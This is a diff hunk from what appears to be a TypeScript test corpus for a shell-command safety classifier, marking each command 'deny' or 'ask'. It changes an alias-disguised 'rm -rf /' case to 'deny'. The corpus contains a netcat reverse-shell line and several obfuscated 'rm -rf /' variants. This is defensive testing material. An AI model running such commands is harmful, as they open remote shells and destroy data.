@@ -116,7 +116,7 @@ const CORPUS: readonly (readonly [string, 'deny' | 'ask'])[] = [
   ['git status | nc -e /bin/sh 10.0.0.1 4242', 'deny'],
   ['sudo rm -rf /', 'deny'],
   ['echo "hi" | python3 -c "import os; os.system(\'rm -rf /\')"', 'ask'],
-  ['alias ls="rm -rf /"; ls', 'ask'],
+  ['alias ls="rm -rf /"; ls', 'deny'],
   ['ls(){ rm -rf /; }; ls', 'deny'],
   ['trap "rm -rf /" EXIT; true', 'deny'],
   ['(echo a; (echo b; rm -rf /))', 'deny'],
